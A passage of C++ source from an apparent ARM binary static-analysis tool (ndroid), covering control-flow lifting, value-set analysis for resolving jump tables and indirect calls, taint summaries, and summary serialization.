                bb.succs.push_back(next);
                work.push_back(next);
              }
              terminate = true;
            }
            break;
        }
        cur = next;
        if (terminate) break;
      }
      bb.end = cur;
      if (!bb.insns.empty()) fn.blocks.emplace(start, std::move(bb));
    }
  };

  explore({fn.entry});

  // Resolution rounds: run the value-set analysis over the lifted blocks,
  // lower every indirect terminator it can bound to a real multi-way
  // successor set, then re-explore the newly discovered targets (which may
  // split existing blocks and shift the fixed point — hence the loop).
  const Vsa vsa(memory_, regions_, region_base(fn.entry));
  for (u32 round = 0; round < kResolveRounds; ++round) {
    const auto states = vsa.analyze(fn);
    std::vector<GuestAddr> frontier;
    bool changed = false;
    for (auto& [start, bb] : fn.blocks) {
      if (!bb.has_indirect_jump || bb.insns.empty()) continue;
      if (bb.jump_table.kind != JumpTableKind::kNone) continue;
      if (bb.insns.back().op == Op::kB) continue;  // out-of-image: not ours
      const auto sit = states.find(start);
      if (sit == states.end()) continue;  // unreachable this round

      // Walk to the state just before the terminator, tracking ITSTATE for
      // its effective condition.
      VsaState st = sit->second;
      u8 itstate = 0;
      GuestAddr pc = bb.start;
      Cond cond = Cond::kAL;
      for (std::size_t i = 0; i < bb.insns.size(); ++i) {
        const Insn& insn = bb.insns[i];
        const bool under_it = itstate != 0 && insn.op != Op::kIt;
        cond = under_it ? static_cast<Cond>(itstate >> 4) : insn.cond;
        if (insn.op == Op::kIt) {
          itstate = static_cast<u8>(insn.imm);
        } else if (under_it) {
          itstate = advance_it(itstate);
        }
        if (i + 1 == bb.insns.size()) break;
        vsa.step(st, insn, pc, fn.thumb, cond != Cond::kAL);
        pc += insn.length;
      }

      const Vsa::ResolvedJump rj =
          vsa.resolve_jump(st, bb.insns.back(), pc, fn.thumb, cond);
      if (!rj.resolved || rj.targets.empty()) continue;
      for (GuestAddr target : rj.targets) {
        if (std::find(bb.succs.begin(), bb.succs.end(), target) ==
            bb.succs.end()) {
          bb.succs.push_back(target);
        }
        frontier.push_back(target);
      }
      bb.has_indirect_jump = false;
      bb.jump_table = rj.table;
      changed = true;
    }
    if (!changed) break;
    explore(std::move(frontier));
  }

  if (!fn.blocks.empty()) {
    fn.lo = fn.blocks.begin()->first;
    fn.hi = 0;
    for (const auto& [_, b] : fn.blocks) fn.hi = std::max(fn.hi, b.end);
  } else {
    fn.lo = fn.hi = fn.entry;
  }
  analyze_blocks(fn, vsa);
  return fn;
}

void CfgLifter::analyze_blocks(FunctionCfg& fn, const Vsa& vsa) const {
  const auto states = vsa.analyze(fn);

  fn.mem_accesses.clear();
  fn.callees.clear();
  fn.has_indirect_jumps = false;
  fn.has_indirect_calls = false;
  fn.resolved_indirect_branches = 0;
  fn.unresolved_indirect_branches = 0;
  fn.resolved_indirect_calls = 0;
  fn.unresolved_indirect_calls = 0;
  fn.degrade_sites.clear();
  if (fn.truncated) fn.degrade(fn.hi, DegradeReason::kTruncated);

  for (auto& [start, bb] : fn.blocks) {
    bb.call_targets.clear();
    bb.call_target_relocatable.clear();
    bb.has_indirect_call = false;

    // Unreachable blocks get the all-⊤ state: every fact stays worst-case.
    VsaState st;
    const auto sit = states.find(start);
    if (sit != states.end()) st = sit->second;

    u8 itstate = 0;
    GuestAddr pc = bb.start;
    GuestAddr last_pc = bb.start;
    for (const Insn& insn : bb.insns) {
      const bool under_it = itstate != 0 && insn.op != Op::kIt;
      const Cond cond =
          under_it ? static_cast<Cond>(itstate >> 4) : insn.cond;
      const bool conditional = cond != Cond::kAL;
      if (insn.op == Op::kIt) {
        itstate = static_cast<u8>(insn.imm);
      } else if (under_it) {
        itstate = advance_it(itstate);
      }
      last_pc = pc;

      // Flattens a strided abstract address into a const window, or
      // degrades. `lowest` biases LDM/STM windows to their low edge.
      auto classify = [&](const AbsVal& addr, u32 bytes, bool is_store) {
        MemAccess a;
        a.pc = pc;
        a.size = bytes;
        a.is_store = is_store;
        const bool abs = addr.kind == AbsVal::Kind::kConst ||
                         addr.kind == AbsVal::Kind::kImageRel;
        const u64 span =
            abs ? static_cast<u64>(addr.stride) * (addr.count - 1) : 0;
        if (abs && span + bytes <= kMaxWindowSpan) {
          a.kind = MemAccess::Kind::kConstAddr;
          a.addr = addr.base + (addr.kind == AbsVal::Kind::kImageRel
                                    ? vsa.image_base()
                                    : 0);
          a.size = static_cast<u32>(span) + bytes;
          a.image_rel = addr.kind == AbsVal::Kind::kImageRel;
        } else if (addr.kind == AbsVal::Kind::kStackRel ||
                   insn.rn == kRegSP) {
          a.kind = MemAccess::Kind::kSpRelative;
        } else {
          a.kind = MemAccess::Kind::kUnknown;
          fn.degrade(pc, DegradeReason::kUnknownMemAccess);
        }
        fn.mem_accesses.push_back(a);
      };

      switch (insn.op) {
        case Op::kLdr:
        case Op::kLdrb:
        case Op::kLdrh:
        case Op::kLdrsb:
        case Op::kLdrsh:
        case Op::kStr:
        case Op::kStrb:
        case Op::kStrh: {
          const bool is_store = insn.op == Op::kStr ||
                                insn.op == Op::kStrb || insn.op == Op::kStrh;
          classify(vsa.mem_addr(st, insn, pc, fn.thumb),
                   access_bytes(insn.op), is_store);
          break;
        }
        case Op::kLdm:
        case Op::kStm: {
          const u32 n = static_cast<u32>(std::popcount(insn.reglist));
          if (n == 0) break;
          // Window starts at the lowest address the transfer touches.
          AbsVal base = insn.rn < 16 ? st.regs[insn.rn] : AbsVal::top();
          const u32 lo_delta = insn.base_increment
                                   ? (insn.before ? 4u : 0u)
                                   : -(4u * n) + (insn.before ? 0u : 4u);
          AbsVal addr = base;
          if (base.kind == AbsVal::Kind::kConst ||
              base.kind == AbsVal::Kind::kImageRel ||
              base.kind == AbsVal::Kind::kStackRel) {
            addr.base = base.base + lo_delta;
          }
          classify(addr, 4 * n, insn.op == Op::kStm);
          break;
        }
        case Op::kBl: {
          const GuestAddr target = branch_target(insn, pc, fn.thumb);
          const GuestAddr mode_target = target | (fn.thumb ? 1u : 0u);
          bb.call_targets.push_back(mode_target);
          bb.call_target_relocatable.push_back(1);  // PC-relative by nature
          if (in_code(target)) fn.callees.push_back(mode_target);
          break;
        }
        case Op::kBlxReg: {
          const Vsa::ResolvedCall rc = vsa.resolve_call(st, insn);
          if (rc.resolved) {
            bb.call_targets.push_back(rc.target);
            bb.call_target_relocatable.push_back(rc.image_rel ? 1 : 0);
            ++fn.resolved_indirect_calls;
            if (in_code(rc.target & ~1u)) {
              fn.callees.push_back(rc.target);
            } else {
              fn.degrade(pc, DegradeReason::kCallOutOfImage);
            }
          } else {
            bb.call_targets.push_back(kUnresolvedCallTarget);
            bb.call_target_relocatable.push_back(0);
            bb.has_indirect_call = true;
            ++fn.unresolved_indirect_calls;
            fn.degrade(pc, DegradeReason::kUnresolvedCall);
          }
          break;
        }
        case Op::kSvc:
          fn.degrade(pc, DegradeReason::kSvc);
          break;
        default:
          break;
      }
      vsa.step(st, insn, pc, fn.thumb, conditional);
      pc += insn.length;
    }

    if (bb.has_indirect_jump) {
      ++fn.unresolved_indirect_branches;
      const Op term = bb.insns.empty() ? Op::kUndefined : bb.insns.back().op;
      fn.degrade(last_pc, term == Op::kB
                              ? DegradeReason::kBranchOutOfImage
                              : DegradeReason::kUnresolvedJump);
    } else if (bb.jump_table.kind != JumpTableKind::kNone) {
      ++fn.resolved_indirect_branches;
    }
    fn.has_indirect_jumps = fn.has_indirect_jumps || bb.has_indirect_jump;
    fn.has_indirect_calls = fn.has_indirect_calls || bb.has_indirect_call;
  }

  std::sort(fn.callees.begin(), fn.callees.end());
  fn.callees.erase(std::unique(fn.callees.begin(), fn.callees.end()),
                   fn.callees.end());
}

}  // namespace ndroid::static_analysis
