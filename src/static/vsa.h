// Interprocedural value-set analysis over lifted function CFGs.
//
// The lifter's original constant propagation was block-local: any value that
// crossed a block boundary — a jump-table base materialised before the bounds
// check, an index refined by a `cmp; bls` pair, a spilled table pointer —
// degraded to unknown, which in turn degraded the whole function to
// `has_indirect_jump` truncation and an opaque summary. This pass tracks
// abstract values through registers *and* spilled stack slots across block
// boundaries to a fixed point, so the CFG lifter can
//   * lower literal-pool jump tables and Thumb-2 TBB/TBH to resolved
//     multi-way successor sets,
//   * turn `BLX reg` through a resolved constant into a real call edge, and
//   * classify memory windows as image-relative when their base is
//     PC-derived (these re-resolve under bind_library instead of opaquing).
//
// The lattice (AbsVal) is, per register/slot:
//
//            ⊤  (any value)
//         /  |   \      \
//     const imgrel stack  arg      — each a bounded strided set
//         \  |   /      /              { base + stride*i : 0 <= i < count }
//            ⊥  (unreachable)
//
//   kConst    concrete 32-bit values, absolute at the lifted base
//   kImageRel offsets from the image base: every PC read produces one, and
//             PC-derived ± const stays one, so the set shifts by exactly the
//             load-base delta when the image is rebased
//   kStackRel byte offsets from the function-entry SP (frame slots)
//   kArg      still exactly the value of argument register r`base` at entry
//
// Join of two strided sets is the smallest strided superset (gcd of strides
// and base distance); joins at a block entry beyond kWidenLimit widen the
// changed registers straight to ⊤, and any set wider than kMaxValueCount is
// ⊤, so the fixed point terminates fast. Everything is an over-approximation
// (⊇ the concrete value set): resolving a jump through an over-wide index
// set yields a *superset* of the real successors, which keeps the CFG's
// ⊇-property and the summary soundness argument intact. Conditional and
// IT-covered writes join with the incumbent value instead of replacing it;
// edge refinement narrows a register after `cmp rN, #imm` + conditional
// branch (the dispatch-table bounds-check idiom) on both edge polarities.
//
// Soundness of the memory model: table words / literal pools are read from
// the code regions at lift time and assumed immutable (the same assumption
// PR-2's literal-pool propagation made; self-modifying code is handled
// dynamically by the SMC write-watch, not statically). Stack slots die at
// calls, SVCs and any store whose address could alias the stack.
#pragma once

#include <array>
#include <map>
#include <optional>
#include <vector>

#include "arm/insn.h"
#include "mem/address_space.h"
#include "static/cfg.h"

namespace ndroid::static_analysis {

struct AbsVal {
  enum class Kind : u8 { kBottom, kConst, kImageRel, kStackRel, kArg, kTop };

  Kind kind = Kind::kTop;
  u32 base = 0;    // value / image offset / SP offset / argument index
  u32 stride = 0;  // strided set step; 0 for singletons
  u32 count = 1;   // number of members (>= 1 unless kBottom/kTop/kArg)

  [[nodiscard]] static AbsVal top() { return {Kind::kTop, 0, 0, 1}; }
  [[nodiscard]] static AbsVal bottom() { return {Kind::kBottom, 0, 0, 1}; }
  [[nodiscard]] static AbsVal const_(u32 v) { return {Kind::kConst, v, 0, 1}; }
  [[nodiscard]] static AbsVal image_rel(u32 off) {
    return {Kind::kImageRel, off, 0, 1};
  }
  [[nodiscard]] static AbsVal stack_rel(i32 off) {
    return {Kind::kStackRel, static_cast<u32>(off), 0, 1};
  }
  [[nodiscard]] static AbsVal arg(u8 index) {
    return {Kind::kArg, index, 0, 1};
  }

  [[nodiscard]] bool is_top() const { return kind == Kind::kTop; }
  [[nodiscard]] bool is_singleton() const { return count == 1; }
  [[nodiscard]] u32 member(u32 i) const { return base + stride * i; }

  bool operator==(const AbsVal& o) const {
    return kind == o.kind && base == o.base && stride == o.stride &&
           count == o.count;
  }
};

/// Least strided-set upper bound; widens to ⊤ across kinds (except ⊥) and
/// past kMaxValueCount members.
[[nodiscard]] AbsVal join(const AbsVal& a, const AbsVal& b);

struct VsaState {
  std::array<AbsVal, 16> regs;
  /// Spilled words, keyed by byte offset from the function-entry SP.
  std::map<i32, AbsVal> slots;
  /// Dominating unconditional `cmp rN, #imm` whose flags are still live
  /// (no intervening flag-setter or write to rN): edge refinement context.
  bool cmp_valid = false;
  u8 cmp_reg = 0;
  u32 cmp_imm = 0;

  VsaState() { regs.fill(AbsVal::top()); }

  /// Joins `other` into this state. With `widen`, any position that would
  /// change goes straight to ⊤ (slots: dropped). Returns true on change.
  bool join_from(const VsaState& other, bool widen);
};

class Vsa {
 public:
  /// Caps: table entries enumerated per resolved branch, strided-set width,
  /// block-entry joins before widening, tracked spill slots per state.
  static constexpr u32 kMaxTableEntries = 64;
  static constexpr u32 kMaxValueCount = 4096;
  static constexpr u32 kWidenLimit = 8;
  static constexpr u32 kMaxTrackedSlots = 64;

  Vsa(const mem::AddressSpace& memory, const std::vector<CodeRegion>& regions,
      GuestAddr image_base);

  /// Runs the fixed point over `fn`'s current blocks; returns the abstract
  /// state at each reachable block's entry (absent key = unreachable).
  [[nodiscard]] std::map<GuestAddr, VsaState> analyze(
      const FunctionCfg& fn) const;

  /// Transfer function for one instruction. `conditional` marks writes that
  /// may not execute (explicit condition or IT coverage): they join instead
  /// of replacing.
  void step(VsaState& st, const arm::Insn& insn, GuestAddr pc, bool thumb,
            bool conditional) const;

  /// Abstract address of a load/store's effective address (the pre-indexed
  /// address actually dereferenced).
  [[nodiscard]] AbsVal mem_addr(const VsaState& st, const arm::Insn& insn,
                                GuestAddr pc, bool thumb) const;

  struct ResolvedJump {
    bool resolved = false;
    std::vector<GuestAddr> targets;  // block starts, Thumb bit stripped
    JumpTable table;
  };
  /// Tries to resolve an indirect-branch terminator (TBB/TBH, LDR-to-PC,
  /// BX reg, DP-to-PC) from the state just before it. `cond` is the
  /// terminator's effective condition: a live `cmp` context in `st` refines
  /// the index register under it first (the `cmp; ldrls pc, [...]` idiom).
  [[nodiscard]] ResolvedJump resolve_jump(const VsaState& st,
                                          const arm::Insn& insn, GuestAddr pc,
                                          bool thumb, arm::Cond cond) const;

  struct ResolvedCall {
    bool resolved = false;
    GuestAddr target = 0;   // bit 0 = Thumb, as BLX interworks
    bool image_rel = false; // target shifts with the image on a rebase
  };
  /// Tries to resolve a `BLX reg` call target from the state before it.
  [[nodiscard]] ResolvedCall resolve_call(const VsaState& st,
                                          const arm::Insn& insn) const;

  /// Narrows `st` under `cond` given a live cmp context (used on CFG edges:
  /// taken edge with the branch condition, fall-through with its inverse).
  static void refine_edge(VsaState& st, arm::Cond cond);

  [[nodiscard]] bool in_code(GuestAddr addr) const;
  [[nodiscard]] GuestAddr image_base() const { return image_base_; }

 private:
  [[nodiscard]] AbsVal read_reg(const VsaState& st, u8 r, GuestAddr pc,
                                bool thumb) const;
  [[nodiscard]] AbsVal operand2(const VsaState& st, const arm::Insn& insn,
                                GuestAddr pc, bool thumb) const;
  [[nodiscard]] AbsVal eval_dp(const VsaState& st, const arm::Insn& insn,
                               GuestAddr pc, bool thumb) const;
  /// Absolute guest address of a kConst/kImageRel member.
  [[nodiscard]] u32 abs_member(const AbsVal& v, u32 i) const {
    return v.member(i) + (v.kind == AbsVal::Kind::kImageRel ? image_base_ : 0);
  }

  const mem::AddressSpace& memory_;
  const std::vector<CodeRegion>& regions_;
  GuestAddr image_base_;
};

}  // namespace ndroid::static_analysis
