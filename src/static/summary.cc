#include "static/summary.h"

#include <algorithm>
#include <array>

namespace ndroid::static_analysis {

using arm::Cond;
using arm::Insn;
using arm::Op;
using arm::TaintClass;

namespace {

constexpr u8 kArgMask = 0x0F;  // dependency bits for r0-r3
constexpr u8 kMemDep = 0x10;   // depends on some memory content
constexpr u8 kOtherDep = 0x20; // depends on non-argument initial state

/// Registers whose shadow state the tracer's rule for `insn` reads or
/// writes (Table V). Branches, compares and hints have no taint effect.
u16 touched_by(const Insn& insn) {
  u16 m = 0;
  auto add = [&m](u8 r) { m |= static_cast<u16>(1u << r); };
  switch (insn.taint_class()) {
    case TaintClass::kBinaryOp3:
      add(insn.rd);
      add(insn.rn);
      if (!insn.imm_operand) add(insn.rm);
      if (insn.op == Op::kMla || insn.op == Op::kUmull ||
          insn.op == Op::kSmull || insn.shift_by_reg) {
        add(insn.rs);
      }
      break;
    case TaintClass::kBinaryOp2:
      add(insn.rd);
      if (!insn.imm_operand) add(insn.rm);
      break;
    case TaintClass::kUnary:
    case TaintClass::kMovReg:
      add(insn.rd);
      add(insn.rm);
      break;
    case TaintClass::kMovImm:
      add(insn.rd);
      break;
    case TaintClass::kLoad:
    case TaintClass::kStore:
      add(insn.rd);
      add(insn.rn);  // address-taint rule: t(Rd) also gets t(Rn)
      if (insn.reg_offset) add(insn.rm);
      break;
    case TaintClass::kLdm:
    case TaintClass::kStm:
      m |= insn.reglist;
      add(insn.rn);
      break;
    case TaintClass::kNone:
      break;
  }
  return m;
}

MemKind classify_mem(const FunctionCfg& fn) {
  MemKind kind = MemKind::kNone;
  for (const MemAccess& a : fn.mem_accesses) {
    switch (a.kind) {
      case MemAccess::Kind::kConstAddr:
        kind = std::max(kind, MemKind::kStatic);
        break;
      case MemAccess::Kind::kSpRelative:
        kind = std::max(kind, MemKind::kStack);
        break;
      case MemAccess::Kind::kUnknown:
        return MemKind::kOpaque;
    }
  }
  return kind;
}

std::vector<Window> merge_windows(const FunctionCfg& fn) {
  std::vector<Window> ws;
  for (const MemAccess& a : fn.mem_accesses) {
    if (a.kind == MemAccess::Kind::kConstAddr && a.size != 0) {
      ws.push_back({a.addr, a.addr + a.size});
    }
  }
  std::sort(ws.begin(), ws.end(),
            [](const Window& x, const Window& y) { return x.lo < y.lo; });
  std::vector<Window> merged;
  for (const Window& w : ws) {
    if (!merged.empty() && w.lo <= merged.back().hi) {
      merged.back().hi = std::max(merged.back().hi, w.hi);
    } else {
      merged.push_back(w);
    }
  }
  return merged;
}

/// ITSTATE advance (see arm::advance_itstate); duplicated from cfg.cc so
/// the pass can tell IT-covered Thumb instructions from unconditional ones.
u8 advance_it(u8 it) {
  return (it & 0x07) == 0 ? u8{0}
                          : static_cast<u8>((it & 0xE0) | ((it << 1) & 0x1F));
}

/// Per-program-point dataflow state: dep[r] is the set of things the value
/// in r may derive from (argument bits / memory / non-argument state).
struct DepState {
  std::array<u8, 16> dep{};

  bool join_from(const DepState& other) {
    bool changed = false;
    for (std::size_t r = 0; r < dep.size(); ++r) {
      const u8 next = static_cast<u8>(dep[r] | other.dep[r]);
      changed = changed || next != dep[r];
      dep[r] = next;
    }
    return changed;
  }
};

/// Monotone accumulators shared by every transfer execution: memory stores,
/// outgoing call arguments and return-point r0 deps only ever grow, so the
/// union across worklist iterations equals the union over the final states.
struct FlowFacts {
  u8 mem_deps = 0;
  u8 call_args = 0;
  u8 ret_deps = 0;
  bool unresolved = false;
};

/// Transfer function for one block: `st` is the state at block entry and is
/// advanced in place to the block-exit state. Definite writes (condition AL
/// and not IT-covered) replace the destination's deps; conditional writes
/// join, since the old value may survive.
void transfer_block(const BasicBlock& bb, const SummaryIndex& index,
                    DepState& st, FlowFacts& facts) {
  auto& dep = st.dep;
  u8 it = 0;
  std::size_t call_idx = 0;

  for (const Insn& insn : bb.insns) {
    bool definite = insn.cond == Cond::kAL;
    if (insn.op == Op::kIt) {
      it = static_cast<u8>(insn.imm);
      continue;
    }
    if (it != 0) {
      definite = false;  // IT-covered: the write may be skipped
      it = advance_it(it);
    }
    auto def = [&dep, definite](u8 r, u8 bits) {
      dep[r] = definite ? bits : static_cast<u8>(dep[r] | bits);
    };
    switch (insn.taint_class()) {
      case TaintClass::kBinaryOp3: {
        u8 bits = dep[insn.rn];
        if (!insn.imm_operand) bits |= dep[insn.rm];
        if (insn.op == Op::kMla || insn.op == Op::kUmull ||
            insn.op == Op::kSmull) {
          bits |= dep[insn.rs];
        }
        def(insn.rd, bits);
        if (insn.op == Op::kUmull || insn.op == Op::kSmull) {
          def(insn.rn, bits);  // RdHi
        }
        break;
      }
      case TaintClass::kBinaryOp2:
      case TaintClass::kUnary:
      case TaintClass::kMovReg:
        def(insn.rd, dep[insn.rm]);
        break;
      case TaintClass::kMovImm:
        def(insn.rd, 0);  // constant: kills the old dependency set
        break;
      case TaintClass::kLoad: {
        u8 bits = static_cast<u8>(dep[insn.rn] | kMemDep);
        if (insn.reg_offset) bits |= dep[insn.rm];
        def(insn.rd, bits);
        break;
      }
      case TaintClass::kStore:
        facts.mem_deps |= dep[insn.rd];
        break;
      case TaintClass::kLdm: {
        const u8 bits = static_cast<u8>(dep[insn.rn] | kMemDep);
        for (u8 r = 0; r < 16; ++r) {
          if ((insn.reglist & (1u << r)) != 0) def(r, bits);
        }
        break;
      }
      case TaintClass::kStm:
        for (u8 r = 0; r < 16; ++r) {
          if ((insn.reglist & (1u << r)) != 0) facts.mem_deps |= dep[r];
        }
        break;
      case TaintClass::kNone:
        break;
    }
    if (insn.op == Op::kSvc) {
      // The kernel may fold any argument register into memory (write) and
      // hand back derived data in r0 (read). r0 joins rather than replaces:
      // which syscalls preserve it is not modelled here.
      facts.mem_deps |= static_cast<u8>(dep[0] | dep[1] | dep[2] | dep[3] |
                                        dep[4] | dep[5] | dep[6]);
      dep[0] |= static_cast<u8>(kMemDep | kOtherDep);
    }
    if (insn.op == Op::kBl || insn.op == Op::kBlxReg) {
      const GuestAddr target =
          call_idx < bb.call_targets.size() ? bb.call_targets[call_idx] : 0;
      ++call_idx;
      const u8 passed =
          static_cast<u8>(dep[0] | dep[1] | dep[2] | dep[3]);
      facts.call_args |= passed;
      // Anything the callee computes derives from the caller's full
      // register state at the call plus memory: the clobber bound for the
      // caller-saved registers it may leave behind.
      u8 state_bits = static_cast<u8>(kMemDep | kOtherDep);
      for (u8 r = 0; r < 15; ++r) state_bits |= dep[r];
      const TaintSummary* callee = target != 0 ? index.find(target) : nullptr;
      u8 ret_bits;
      if (callee != nullptr) {
        ret_bits = callee->ret_depends_on_mem ? kMemDep : u8{0};
        u8 store_bits = 0;
        for (u8 i = 0; i < 4; ++i) {
          if ((callee->args_to_ret & (1u << i)) != 0) ret_bits |= dep[i];
          if ((callee->args_to_mem & (1u << i)) != 0) store_bits |= dep[i];
        }
        if (callee->unresolved_calls) {
          ret_bits |= state_bits;
          store_bits |= passed;
        }
        facts.mem_deps |= store_bits;
        facts.unresolved = facts.unresolved || callee->unresolved_calls;
      } else {
        // Out-of-graph target (library stub, helper, unresolved BLX):
        // assume the worst for both the return value and memory.
        ret_bits = state_bits;
        facts.mem_deps |= passed;
        facts.unresolved = true;
      }
      def(0, ret_bits);
      for (const u8 r : {u8{1}, u8{2}, u8{3}, u8{12}, u8{14}}) {
        def(r, state_bits);
      }
    }
  }
  if (bb.is_return) facts.ret_deps |= dep[0];
}

/// One pass of the arg-flow analysis for `fn`: a forward dataflow over the
/// block graph (join at block entries, kills on definite writes), reading
/// callee facts from `index` (results of the previous call-graph pass).
/// Returns true when any fact changed.
bool argflow_pass(const FunctionCfg& fn, const SummaryIndex& index,
                  TaintSummary& s) {
  FlowFacts facts;
  facts.unresolved = fn.has_indirect_calls || fn.truncated;

  DepState init;
  for (u8 i = 0; i < 4; ++i) init.dep[i] = static_cast<u8>(1u << i);

  std::map<GuestAddr, DepState> in;
  std::vector<GuestAddr> worklist;
  if (fn.blocks.contains(fn.entry)) {
    in.emplace(fn.entry, init);
    worklist.push_back(fn.entry);
  }
  // Monotone joins over a finite lattice: terminates without a bound. The
  // accumulators in `facts` only grow, so re-running a block is harmless.
  while (!worklist.empty()) {
    const GuestAddr start = worklist.back();
    worklist.pop_back();
    DepState st = in.at(start);
    const BasicBlock& bb = fn.blocks.at(start);
    transfer_block(bb, index, st, facts);
    for (const GuestAddr succ : bb.succs) {
      if (!fn.blocks.contains(succ)) continue;
      auto [it, inserted] = in.emplace(succ, st);
      if (inserted || it->second.join_from(st)) worklist.push_back(succ);
    }
  }
  // Blocks the dataflow never reached (possible only through control flow
  // the lifter could not resolve): transfer once with a worst-case entry
  // state so their stores/calls still land in the accumulators.
  for (const auto& [start, bb] : fn.blocks) {
    if (in.contains(start)) continue;
    DepState worst;
    worst.dep.fill(static_cast<u8>(kArgMask | kMemDep | kOtherDep));
    transfer_block(bb, index, worst, facts);
  }
  // Control flow the lifter could not follow voids the flow-sensitive
  // reasoning above; fall back to "every argument may reach everything".
  if (fn.has_indirect_jumps || fn.truncated) {
    facts.ret_deps = kArgMask | kMemDep;
    facts.mem_deps |= kArgMask;
    facts.call_args |= kArgMask;
    facts.unresolved = true;
  }

  const u8 new_ret = static_cast<u8>(facts.ret_deps & kArgMask);
  const bool new_ret_mem = (facts.ret_deps & kMemDep) != 0;
  const u8 new_mem = static_cast<u8>(facts.mem_deps & kArgMask);
  const u8 call_args = facts.call_args;
  const bool unresolved = facts.unresolved;
  const bool moved = new_ret != s.args_to_ret ||
                     new_ret_mem != s.ret_depends_on_mem ||
                     new_mem != s.args_to_mem || call_args != s.args_to_call ||
                     unresolved != s.unresolved_calls;
  s.args_to_ret = new_ret;
  s.ret_depends_on_mem = new_ret_mem;
  s.args_to_mem = new_mem;
  s.args_to_call = call_args;
  s.unresolved_calls = unresolved;
  return moved;
}

}  // namespace

SummaryIndex summarize(const Program& program) {
  SummaryIndex index;

  // Structural facts first (call-graph independent).
  for (const auto& [entry, fn] : program.functions) {
    TaintSummary s;
    s.entry = entry;
    s.name = fn.name;
    s.has_svc = fn.has_svc;
    s.truncated = fn.truncated;
    s.mem_kind = classify_mem(fn);
    s.windows = merge_windows(fn);
    for (const auto& [start, bb] : fn.blocks) {
      for (const Insn& insn : bb.insns) s.touched_regs |= touched_by(insn);
    }
    index.summaries.emplace(entry, std::move(s));
  }

  // Bounded fixed point of the arg-flow facts over the call graph.
  for (int pass = 0; pass < kCallGraphPasses; ++pass) {
    bool changed = false;
    for (const auto& [entry, fn] : program.functions) {
      changed = argflow_pass(fn, index, index.summaries.at(entry)) || changed;
    }
    if (!changed) break;
  }

  // Transparency verdicts (hook pre-placement).
  for (const auto& [entry, fn] : program.functions) {
    TaintSummary& s = index.summaries.at(entry);
    bool has_calls = fn.has_indirect_calls;
    for (const auto& [start, bb] : fn.blocks) {
      has_calls = has_calls || !bb.call_targets.empty();
    }
    s.transparent = s.mem_kind == MemKind::kNone && !s.has_svc &&
                    !has_calls && !s.truncated && !fn.has_indirect_jumps &&
                    s.args_to_ret == 0 && !s.ret_depends_on_mem;
  }
  return index;
}

}  // namespace ndroid::static_analysis
