#include "static/summary_store.h"

#include <dirent.h>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <stdexcept>

#include "common/serde.h"

namespace ndroid::static_analysis {

namespace {

// ---- payload codec ---------------------------------------------------------

void encode_insn(serde::Writer& w, const arm::Insn& insn) {
  w.put_u8(static_cast<u8>(insn.op));
  w.put_u8(static_cast<u8>(insn.cond));
  w.put_u8(insn.rd);
  w.put_u8(insn.rn);
  w.put_u8(insn.rm);
  w.put_u8(insn.rs);
  w.put_u32(insn.imm);
  w.put_u8(static_cast<u8>(insn.shift));
  w.put_u8(insn.shift_amount);
  u16 flags = 0;
  flags |= insn.imm_operand ? 1u << 0 : 0;
  flags |= insn.shift_by_reg ? 1u << 1 : 0;
  flags |= insn.set_flags ? 1u << 2 : 0;
  flags |= insn.pre_index ? 1u << 3 : 0;
  flags |= insn.add_offset ? 1u << 4 : 0;
  flags |= insn.writeback ? 1u << 5 : 0;
  flags |= insn.reg_offset ? 1u << 6 : 0;
  flags |= insn.base_increment ? 1u << 7 : 0;
  flags |= insn.before ? 1u << 8 : 0;
  flags |= insn.link ? 1u << 9 : 0;
  w.put_u16(flags);
  w.put_u16(insn.reglist);
  w.put_i32(insn.branch_offset);
  w.put_u32(insn.raw);
  w.put_u8(insn.length);
}

arm::Insn decode_insn(serde::Reader& r) {
  arm::Insn insn;
  const u8 op = r.get_u8();
  if (op > static_cast<u8>(arm::Op::kIt)) throw serde::DecodeError("bad op");
  insn.op = static_cast<arm::Op>(op);
  const u8 cond = r.get_u8();
  if (cond > static_cast<u8>(arm::Cond::kAL)) {
    throw serde::DecodeError("bad cond");
  }
  insn.cond = static_cast<arm::Cond>(cond);
  insn.rd = r.get_u8();
  insn.rn = r.get_u8();
  insn.rm = r.get_u8();
  insn.rs = r.get_u8();
  insn.imm = r.get_u32();
  const u8 shift = r.get_u8();
  if (shift > static_cast<u8>(arm::ShiftType::kRRX)) {
    throw serde::DecodeError("bad shift");
  }
  insn.shift = static_cast<arm::ShiftType>(shift);
  insn.shift_amount = r.get_u8();
  const u16 flags = r.get_u16();
  insn.imm_operand = (flags & (1u << 0)) != 0;
  insn.shift_by_reg = (flags & (1u << 1)) != 0;
  insn.set_flags = (flags & (1u << 2)) != 0;
  insn.pre_index = (flags & (1u << 3)) != 0;
  insn.add_offset = (flags & (1u << 4)) != 0;
  insn.writeback = (flags & (1u << 5)) != 0;
  insn.reg_offset = (flags & (1u << 6)) != 0;
  insn.base_increment = (flags & (1u << 7)) != 0;
  insn.before = (flags & (1u << 8)) != 0;
  insn.link = (flags & (1u << 9)) != 0;
  insn.reglist = r.get_u16();
  insn.branch_offset = r.get_i32();
  insn.raw = r.get_u32();
  insn.length = r.get_u8();
  return insn;
}

void encode_block(serde::Writer& w, const BasicBlock& bb) {
  w.put_u32(bb.start);
  w.put_u32(bb.end);
  w.put_u32(static_cast<u32>(bb.insns.size()));
  for (const arm::Insn& insn : bb.insns) encode_insn(w, insn);
  w.put_u32(static_cast<u32>(bb.succs.size()));
  for (const GuestAddr s : bb.succs) w.put_u32(s);
  w.put_u32(static_cast<u32>(bb.call_targets.size()));
  for (const GuestAddr t : bb.call_targets) w.put_u32(t);
  w.put_u32(static_cast<u32>(bb.call_target_relocatable.size()));
  for (const u8 reloc : bb.call_target_relocatable) w.put_u8(reloc);
  w.put_bool(bb.has_indirect_call);
  w.put_bool(bb.is_return);
  w.put_bool(bb.has_indirect_jump);
  w.put_u8(static_cast<u8>(bb.jump_table.kind));
  w.put_u32(bb.jump_table.table);
  w.put_u32(bb.jump_table.entries);
  w.put_bool(bb.jump_table.image_rel);
}

BasicBlock decode_block(serde::Reader& r) {
  BasicBlock bb;
  bb.start = r.get_u32();
  bb.end = r.get_u32();
  const u32 insns = r.get_count(24);
  bb.insns.reserve(insns);
  for (u32 i = 0; i < insns; ++i) bb.insns.push_back(decode_insn(r));
  const u32 succs = r.get_count(4);
  bb.succs.reserve(succs);
  for (u32 i = 0; i < succs; ++i) bb.succs.push_back(r.get_u32());
  const u32 calls = r.get_count(4);
